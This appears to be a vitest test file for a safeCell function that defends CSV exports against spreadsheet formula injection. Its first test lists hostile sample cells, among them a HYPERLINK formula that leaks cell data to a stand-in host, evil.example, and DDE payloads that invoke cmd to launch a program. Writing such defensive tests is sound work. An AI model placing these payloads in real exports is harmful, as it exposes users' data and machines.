import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { safeCell } from './csv-cell.ts';

describe('safeCell', () => {
	it('neutralises formulas, whatever they start with', () => {
		for (const bad of [
			'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
			'@SUM(1+1)*cmd|\' /C calc\'!A0',
			'+SUM(A1:A9)',
			'-2+3+cmd|\' /C calc\'!A0',
			'=1+1',
			'\t=1+1',
			'\r=1+1',
			'+1 415 555 0123 =HYPERLINK("x")',
			'+1 415 CALL ME',
			'-',
			'+'
		]) {
			expect(safeCell(bad), bad).toBe(`'${bad}`);
		}
	});

	it('leaves phone numbers and plain numbers readable, and text that starts safely alone', () => {
		for (const ok of ['+14155550123', '+1 415 555 0123', '+1 (415) 555-0123', '+44 7700 900123', '-0.00790', '+5', '42', 'John Smith', ' =not first', '', "'already"]) {
			expect(safeCell(ok), ok).toBe(ok);
		}
	});

	it('round-trips through csv-stringify and csv-parse', () => {
		const cells = ['=HYPERLINK("http://x","y")', '+1 415 555 0123', 'Ada, "the first"\nLovelace', '@SUM(A1)'];
		const [row] = parse(stringify([cells.map(safeCell)])) as string[][];
		expect(row).toEqual(["'=HYPERLINK(\"http://x\",\"y\")", '+1 415 555 0123', 'Ada, "the first"\nLovelace', "'@SUM(A1)"]);
	});
});
